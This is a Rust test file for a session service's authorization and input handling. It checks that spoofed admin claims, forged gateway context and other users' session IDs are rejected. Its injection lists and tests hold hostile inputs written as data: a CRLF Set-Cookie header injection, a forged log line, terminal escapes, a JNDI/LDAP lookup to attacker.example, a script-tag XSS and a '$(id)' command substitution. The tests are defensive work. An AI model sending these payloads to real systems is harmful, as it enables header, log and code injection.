        (r#""ａｄｍｉｎ""#, no_admin),
        (r#""admin\u200b""#, no_admin),
        (r#""administrator""#, no_admin),
        (r#""""#, no_admin),
        (r#"[["admin"]]"#, no_admin),
        (r#"[{"role":"admin"}]"#, no_admin),
        (r#"["admin "]"#, no_admin),
        ("[]", no_admin),
        (r#"{"admin":true}"#, no_admin),
        (r#"{"role":"admin"}"#, no_admin),
        ("1", no_admin),
        ("true", no_admin),
        ("null", no_admin),
    ];
    for (role, outcome) in cases {
        let claims = format!(r#"{{"sub":"1","exp":{},"role":{role}}}"#, START + 60);
        came_to(&service.get(LIST, &signed(HEADER, &claims)).await, *outcome, role);
    }
    let elsewhere = r#","role":"user","roles":["admin"],"Role":"admin","admin":true,"scope":"admin""#;
    came_to(&service.get(LIST, &signed(HEADER, &claims(elsewhere))).await, no_admin, elsewhere);
}

/// The claims of API Gateway's JWT authorizer, which are text, each.
fn authorizer(claims: Value) -> Value {
    json!({"jwt": {"claims": claims, "scopes": null}})
}

#[tokio::test]
async fn claims_of_the_gateway_of_every_form() {
    let service = Service::with(&[("AUTH_MODE", "gateway")]).await;
    let no_admin = Some("admin_only");
    let cases = [
        (json!({"sub": "1", "role": "admin"}), None),
        (json!({"sub": "1", "role": "[ user  admin ]"}), None),
        (json!({"sub": "1", "role": "Admin"}), no_admin),
        (json!({"sub": "1", "role": "admin "}), no_admin),
        (json!({"sub": "1", "role": "user,admin"}), no_admin),
        (json!({"sub": "1", "role": "[[admin]]"}), no_admin),
        (json!({"sub": "1", "role": "[admin"}), no_admin),
        (json!({"sub": "1", "role": "admin]"}), no_admin),
        (json!({"sub": "1", "role": "[user] [admin]"}), no_admin),
        (json!({"sub": "1", "role": "[\"admin\"]"}), no_admin),
        (json!({"sub": "1", "role": "map[admin:true]"}), no_admin),
        (json!({"sub": "74", "role": "admin"}), Some("own_sessions")),
        (json!({"sub": "[1]", "role": "admin"}), NO_USER),
        (json!({"sub": "[74 1]", "role": "admin"}), NO_USER),
        (json!({"sub": "1 ", "role": "admin"}), NO_USER),
        (json!({"sub": "1.0e+00/", "role": "admin"}), NO_USER),
        (json!({"sub": "", "role": "admin"}), NO_USER),
        (json!({"role": "admin"}), NO_USER),
        (json!({}), NO_USER),
        (json!({"sub": "1", "role": "admin", "sid": NEVER}), Some("session_ended")),
        (json!({"sub": "1", "role": "admin", "sid": ""}), Some("session_ended")),
        (json!({"sub": "1", "role": "admin", "sid": format!("[{NEVER}]")}), Some("session_ended")),
    ];
    for (claims, outcome) in cases {
        let call = Call::new("GET", LIST).with("/requestContext/authorizer", authorizer(claims.clone()));
        came_to(&call.send(&service).await, outcome, &claims.to_string());
    }
}

#[tokio::test]
async fn claims_in_places_where_nobody_verified_them() {
    let admin = json!({"sub": "1", "role": "admin", "exp": "9999999999"});
    let text = admin.to_string();
    let base64 = URL_SAFE_NO_PAD.encode(&text);
    let spoofed = || {
        let context =
            |authorizer: Value| Call::new("GET", LIST).with("/requestContext/authorizer", authorizer);
        let headers = [
            "x-amzn-oidc-data",
            "x-amzn-oidc-identity",
            "x-apigateway-event",
            "x-amzn-request-context",
            "x-forwarded-user",
            "x-user-id",
            "x-jwt-payload",
            "authorizer",
        ];
        let mut calls = vec![
            Call::new("GET", &format!("{LIST}?sub=1&role=admin&claims={base64}")),
            Call::new("GET", LIST).with("/stageVariables", admin.clone()),
            Call::new("GET", LIST).with("/authorizer", authorizer(admin.clone())),
            Call::new("GET", LIST).with("/claims", admin.clone()),
            Call::new("GET", LIST).with("/pathParameters", admin.clone()),
            Call::new("GET", LIST).with("/queryStringParameters", admin.clone()),
            Call::new("GET", LIST).with("/requestContext/jwt", json!({"claims": admin})),
            Call::new("GET", LIST).with("/requestContext/claims", admin.clone()),
            context(json!({"lambda": admin})),
            context(json!({"lambda": {"jwt": {"claims": admin}}})),
            context(json!({"claims": admin})),
            context(admin.clone()),
            context(json!({"principalId": "1"})),
        ];
        calls.extend(headers.map(|name| Call::new("GET", LIST).header(name, &text)));
        calls.extend(headers.map(|name| Call::new("GET", LIST).header(name, &base64)));
        calls
    };
    let (hs256, gateway) = (Service::start().await, Service::with(&[("AUTH_MODE", "gateway")]).await);
    for service in [&hs256, &gateway] {
        for (i, call) in spoofed().into_iter().enumerate() {
            came_to(&call.send(service).await, Some("token_missing"), &format!("attempt {i}"));
        }
        let body = Call::new("GET", LIST).body(&text);
        came_to(&body.send(service).await, Some("token_missing"), "a body");
    }
    // Nor do they add to what was verified.
    for (i, call) in spoofed().into_iter().enumerate() {
        let reply = call.token(&user_token("75")).send(&hs256).await;
        came_to(&reply, Some("admin_only"), &format!("attempt {i}, with a token"));
    }
    // Each mode takes its own proof, and not the other's.
    let by_gateway =
        |claims: Value| Call::new("GET", LIST).with("/requestContext/authorizer", authorizer(claims));
    let cases = [
        (&hs256, by_gateway(admin.clone()), Some("token_missing")),
        (&hs256, by_gateway(admin.clone()).token(&user_token("75")), Some("admin_only")),
        (&hs256, by_gateway(json!({"sub": "75"})).token(&admin_token()), None),
        (&gateway, Call::new("GET", LIST).token(&admin_token()), Some("token_missing")),
        (&gateway, by_gateway(json!({"sub": "75"})).token(&admin_token()), Some("admin_only")),
        (&gateway, by_gateway(admin.clone()).token(&user_token("75")), None),
        (&gateway, by_gateway(admin.clone()).header("authorization", "nonsense"), None),
    ];
    for (i, (service, call, outcome)) in cases.into_iter().enumerate() {
        came_to(&call.send(service).await, outcome, &format!("case {i}"));
    }
}

#[tokio::test]
async fn the_session_of_another_user_in_the_header() {
    let mut service = Service::start().await;
    let other = service.sign_in("75", "phone").await.id.to_string();
    let own = service.sign_in("74", "phone").await.id.to_string();
    let cases = [
        ("GET /sessions/current", 401, "no_current_session"),
        ("POST /sessions/update-activity", 401, "no_current_session"),
        ("DELETE /sessions/logout", 404, "no_current_session"),
        ("DELETE /sessions/logout-all?exclude_current=true", 409, "current_session_unknown"),
    ];
    for (route, status, code) in cases {
        for named in [other.as_str(), NEVER, "profile", "", " ", "é", &format!("{own},{own}")] {
            let call = Call::of(route).token(&user_token("74")).header("x-session-id", named);
            call.send(&service).await.problem(status, code);
        }
    }
    assert_eq!(service.get("/sessions/user/75", &admin_token()).await.ids(), [other]);
    assert_eq!(service.get(LIST, &admin_token()).await.ids(), [own]);
}

/// What breaks lines, terminals, JSON or headers. No header can hold those that are marked: the event is refused.
const INJECTIONS: &[(&str, bool)] = &[
    ("a\r\nSet-Cookie: session=stolen", true),
    ("a\n{\"level\":\"INFO\",\"event\":\"session_ended\",\"actor\":\"1\"}", true),
    ("a\r", true),
    ("a\0b", true),
    ("\u{1b}[2J\u{1b}[31mred", true),
    ("\u{7f}\u{8}\u{8}", true),
    ("a\u{85}b", false),
    ("a\u{2028}b\u{2029}c", false),
    ("a\u{202e}b\u{2066}c", false),
    ("\"}],\"role\":\"admin\",\"x\":[{\"", false),
    ("\\\",\\u000a\\", false),
    ("%0d%0aSet-Cookie:%20a=b", false),
    ("{} {user_id} {0:?} ${jndi:ldap://attacker.example/a}", false),
    ("<script>alert(1)</script>", false),
    ("é😀\u{fffd}", false),
];

/// One that is as long as the gateway lets a header be.
fn long() -> (String, bool) {
    ("long ".repeat(2_000), false)
}

fn injections() -> impl Iterator<Item = (String, bool)> {
    INJECTIONS.iter().map(|(text, refused)| (text.to_string(), *refused)).chain([long()])
}

/// Every character of it can be shown in a table without doing anything.
fn is_plain(text: &Value) -> bool {
    text.as_str().unwrap().chars().all(|c| !c.is_control() && !"\u{2028}\u{2029}".contains(c))
}

/// The lines of a sign-in of a device; `None` when the event could not be read.
fn came_to_a_session(reply: &Reply, lines: &[Value], readable: bool, attempt: &str) {
    match readable {
        true => {
            assert_eq!((reply.status, lines.len()), (201, 1), "{attempt}: {} {lines:?}", reply.text);
            assert_eq!((&lines[0]["message"], &lines[0]["status"]), (&json!("answered"), &json!(201)));
            for name in ["device_name", "browser", "os", "ip_address"] {
                assert!(is_plain(&reply.body[name]), "{attempt}: {}", reply.text);
            }
        }
        false => {
            reply.problem(400, "bad_event");
            assert_eq!(lines.len(), 1, "{attempt}: {lines:?}");
            assert_eq!((&lines[0]["message"], &lines[0]["code"]), (&json!("refused"), &json!("bad_event")));
        }
    }
}

#[tokio::test]
async fn injections_by_headers() {
    let service = Service::start().await;
    let (log, _guard) = Log::start();
    let headers = [
        "user-agent",
        "sec-ch-ua",
        "sec-ch-ua-platform",
        "sec-ch-ua-platform-version",
        "sec-ch-ua-mobile",
        "x-session-id",
        "x-forwarded-for",
        "origin",
        "cookie",
    ];
    // A user each, so that no sign-in ends another session.
    let mut users = (1_000..).map(|id| user_token(&id.to_string()));
    for (text, refused) in injections() {
        for name in headers {
            let value = format!("{text}, by {name}");
            for value in [value.clone(), format!("\"{value}\"")] {
                let call = Call::of("POST /sessions/create").token(&users.next().unwrap());
                let reply = call.header(name, &value).send(&service).await;
                came_to_a_session(&reply, &log.take(), !refused, &format!("{name}: {text}"));
            }
        }
    }
}

#[tokio::test]
async fn injections_by_bodies() {
    let service = Service::start().await;
    let (log, _guard) = Log::start();
    let mut users = (1_000..).map(|id| user_token(&id.to_string()));
    for (text, _) in injections() {
        for field in ["device_name", "browser", "device_type", "device_fingerprint"] {
            let body = json!({field: format!("{text}, by {field}")});
            let reply = service.post("/sessions/create", &users.next().unwrap(), body).await;
            came_to_a_session(&reply, &log.take(), true, &format!("{field}: {text}"));
        }
    }
}

/// Percent-encodes every byte.
fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[tokio::test]
async fn injections_by_reasons() {
    let mut service = Service::start().await;
    let (log, _guard) = Log::start();
    for (text, _) in INJECTIONS {
        let id = service.sign_in("74", "phone").await.id;
        let note = format!("{text}, by reason");
        let target = format!("/sessions/user/74/session/{id}?reason={}", encoded(&note));
        let reply = service.delete(&target, &admin_token()).await;
        let messages: Vec<_> = log.take().into_iter().map(|line| line["message"].clone()).collect();
        if text.chars().any(char::is_control) {
            reply.problem(400, "bad_reason");
            assert_eq!(messages, ["refused", "answered"], "{text}");
        } else {
            assert_eq!(reply.ok()["session"]["end_note"], note);
            assert_eq!(messages, ["session ended", "answered"], "{text}");
        }
    }
    let long = format!("{LIST}?reason={}", "n".repeat(257));
    service.delete(&long, &admin_token()).await.problem(400, "bad_reason");
}

#[tokio::test]
async fn injections_by_the_name_of_the_request() {
    let service = Service::start().await;
    let (log, _guard) = Log::start();
    for (text, _) in injections() {
        let name = format!("{text}, by request id");
        let call = || Call::new("GET", LIST).with("/requestContext/requestId", json!(name));
        call().token(&admin_token()).send(&service).await.ok();
        let refused = call().send(&service).await;
        refused.problem(401, "token_missing");
        assert_eq!(refused.body["request_id"], name);
        let lines = log.take();
        assert_eq!(lines.len(), 3);
        for line in lines {
            assert_eq!(line["span"], json!({"name": "request", "request_id": name}));
            assert!(line["event"].is_null() && line["role"].is_null());
        }
    }
}

#[tokio::test]
async fn injections_by_method_and_host() {
    let service = Service::start().await;
    let (log, _guard) = Log::start();
    let no_method = Some("method_not_allowed");
    let unread = Some("bad_event");
    let long = "A".repeat(8_000);
    let methods = [
        ("GET", None),
        ("get", no_method),
        ("Get", no_method),
        ("HEAD", no_method),
        ("OPTIONS", no_method),
        ("TRACE", no_method),
        ("CONNECT", no_method),
        ("PATCH", no_method),
        ("QUERY", no_method),
        ("$(id)", unread),
        // lambda_http takes none for GET.
        ("", None),
        (" GET", unread),
        ("GET ", unread),
        ("GET\r\nX-Injected: 1", unread),
        ("GET\0", unread),
        ("GET\u{2028}", unread),
        ("G\"E\\T", unread),
        ("<script>", unread),
        (long.as_str(), no_method),
    ];
    for (method, outcome) in methods {
        let reply = Call::new(method, LIST).token(&admin_token()).send(&service).await;
        came_to(&reply, outcome, &format!("method {method}"));
        assert_eq!(
            reply.headers.get("allow").map(String::as_str),
            outcome.filter(|o| Some(*o) == no_method).map(|_| "GET, DELETE")
        );
        let lines = log.take();
        let expected = if outcome == no_method { 2 } else { 1 };
        assert_eq!(lines.len(), expected, "{method}: {lines:?}");
    }
    let hosts = [
        ("attacker.example", None),
        ("attacker.example/sessions/user/1?", None),
        ("attacker.example#", None),
        ("user:password@attacker.example:8443", None),
        ("[::1]", None),
        ("attacker.example\r\nX-Injected: 1", unread),
        ("a b", unread),
        ("a\0", unread),
        ("", None),
        ("a\"b", unread),
        ("[", unread),
        ("a:99999", unread),
    ];
    for (host, outcome) in hosts {
        let reply = Call::new("GET", LIST).token(&admin_token()).header("host", host).send(&service).await;
        came_to(&reply, outcome, &format!("host {host}"));
        assert_eq!(log.take().len(), 1, "{host}");
        assert!(!reply.all().contains("attacker"), "{host}");
    }
    let schemes = [
        ("javascript", None),
        ("https://attacker.example/", None),
        ("", unread),
        ("a b", unread),
        ("\"'", unread),
    ];
    for (scheme, outcome) in schemes {
        let call = Call::new("GET", LIST).token(&admin_token()).header("x-forwarded-proto", scheme);
        came_to(&call.send(&service).await, outcome, &format!("scheme {scheme}"));
    }
}

#[tokio::test]
async fn every_answer_has_its_headers() {
    let mut service = Service::start().await;
    let reply_to = async |service: &Service, call: Call, status: u64, route: &str| {
        // The form of each answer is asserted where it arrives; here they are all seen.
        let reply = call.send(service).await;
        assert_eq!(reply.status, status, "{route}: {}", reply.text);
        reply
    };
    for route in ROUTES {
        let id = service.sign_in("74", "phone").await.id.to_string();
        service.sign_in("74", "laptop").await;
        let mine = token::token("74", None, Some(&id), START + 100_000);
        let token = if ADMIN_ROUTES.contains(&route) { admin_token() } else { mine };
        let named = route.replace("{session_id}", &id);
        let success = if named.contains("create") { 201 } else { 200 };
        reply_to(&service, Call::of(&named).token(&token), success, route).await;
        reply_to(&service, Call::of(&named), 401, route).await;
        reply_to(&service, Call::of(&named).token("x"), 401, route).await;
        let put = route.replace("GET ", "PUT ").replace("DELETE ", "PUT ").replace("POST ", "PUT ");
        let refused = reply_to(&service, Call::of(&put).token(&token), 405, route).await;
        let takes = ROUTES.iter().filter(|other| other.split(' ').nth(1) == route.split(' ').nth(1));
        let takes: Vec<_> = takes.map(|other| other.split(' ').next().unwrap()).collect();
        assert_eq!(refused.headers["allow"], takes.join(", "), "{route}");
        reply_to(&service, Call::of(&format!("{named}/")).token(&token), 404, route).await;
        reply_to(&service, Call::of(&named).token(&user_token("75")).body("{"), 400, route).await;
        service.store().end_all(&user("74"), None, &ending(&service)).await.unwrap();
    }
    let broken = json!({"requestContext": 1});
    for event in [json!({}), json!(null), json!([]), json!(""), json!(7), broken, json!({"version": "1.0"})] {
        service.event(&event).await.problem(400, "bad_event");
    }
}
